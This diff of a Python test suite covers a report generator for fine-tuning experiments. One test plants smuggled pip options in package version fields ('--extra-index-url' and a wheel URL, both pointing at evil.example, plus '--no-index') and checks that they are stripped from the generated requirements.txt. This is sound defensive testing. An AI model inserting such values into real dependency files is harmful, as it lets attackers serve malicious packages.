@@ -212,6 +212,33 @@ def test_what_strangers_wrote_stays_text(runs: Path) -> None:
                 assert number or not cell.startswith(("=", "+", "-", "@")), (table, cell)
 
 
+def test_packages_that_are_none_are_not_written_for_pip(runs: Path) -> None:
+    path = add_run(runs, recipe_of("lora"), 0)
+    packages = {
+        "torch": "2.13.0+cpu\n--extra-index-url http://evil.example/simple",
+        "peft\n--no-index": "1",
+        "x @ http://evil.example/x.whl #": "1",
+        "peft-workbench": "0\n--no-index",
+        "ruamel.yaml": "0.18.6",
+        "numpy": "2.1.0rc1",
+    }
+    write_json(path / "environment.json", {"packages": packages})
+    _, folder = report(runs)
+    lines = (folder / "requirements.txt").read_text().splitlines()
+    assert lines == ["# peft-workbench of an unknown version", "ruamel.yaml==0.18.6", "numpy==2.1.0rc1"]
+
+
+def test_recipes_called_as_columns_keep_their_answers(runs: Path) -> None:
+    labels = ["a", "b", "a"]
+    for name, said in (("label", ["b", "b", "b"]), ("text", ["a", "b", "b"])):
+        add_run(runs, recipe_of("lora" if name == "text" else "full", name=name), 0,
+                texts=["one", "two", "three"], labels=labels, predictions=said)  # fmt: skip
+    _, folder = report(runs)
+    (line,) = rows_of(folder / "tables" / "disagreements.csv")
+    assert (line["label"], line["text"], line["id"]) == ("a", "one", "doc/0")
+    assert (line["label says"], line["text says"], line["text seeds right"]) == ("b", "a", "1")
+
+
 def test_a_name_that_climbs_out_of_the_folder_does_not(runs: Path) -> None:
     path = add_run(runs, recipe_of("lora"), 0)
     record = read_json(path / "result.json") or {}
@@ -230,6 +257,29 @@ def test_without_texts_no_text_of_the_data_is_in_the_report(runs: Path) -> None:
 
 
 # --- runs in every state, and every task ---------------------------------------------------
+
+
+def test_one_run_alone_claims_no_more_than_it_shows(runs: Path) -> None:
+    add_run(runs, recipe_of("lora"), 0)
+    page, folder = report(runs)
+    markdown = (folder / "report.md").read_text()
+    assert "1 recipe, 1 finished run. Written" in markdown
+    for text in (page.text, markdown):
+        assert "Disagreements" not in text and "different things" not in text
+        assert "95% intervals" not in text and "the band reaches" not in text
+        assert "One seed each" in text
+
+
+def test_both_pages_say_how_it_was_tested_and_what_is_apart(runs: Path) -> None:
+    add_study(runs)
+    for path in (runs / "news").glob("prompt-*"):
+        record = read_json(path / "result.json") or {}
+        record["comparability"]["split"] = "other"
+        write_json(path / "result.json", record)
+    page, folder = report(runs)
+    for text in (page.text, (folder / "report.md").read_text()):
+        assert "3 recipes, 9 finished runs, in 2 groups that must not be compared" in text
+        assert "tested by an interval over seeds and test items together" in text
 
 
 def test_runs_that_are_not_finished_or_damaged_are_named(runs: Path) -> None:
@@ -261,6 +311,8 @@ def test_runs_that_must_not_be_compared_are_sections_of_their_own(runs: Path) ->
     }  # fmt: skip
 
 
+PAIRS = "Test examples by who is right, with more than half of the seeds of a recipe"
+
 TASKS: list[tuple[dict[str, Any], list[str], list[str], list[str]]] = [
     ({"name": "token-classification"}, ["B-LOC O", "O B-PER"], ["B-LOC O", "O O"], ["O", "B-LOC"]),
     ({"name": "question-answering"}, ["476 | in 476", "Rome"], ["In 476.", "Paris"], []),
@@ -291,7 +343,7 @@ def test_every_task_has_a_report(
     assert (folder / "tables" / "classes.csv").exists() == bool(known)
     assert "perplexity (lower is better)" in page.text
     if task["name"] == "question-answering":
-        counts = page.records("Test examples by who is right, as most seeds of a recipe say")
+        counts = page.records(PAIRS)
         assert counts[0]["recipes"].text == "prompt and full"
         assert counts[0]["both right"].text == "1" and counts[0]["only the second"].text == "1"
     if task["name"] != "causal-lm":
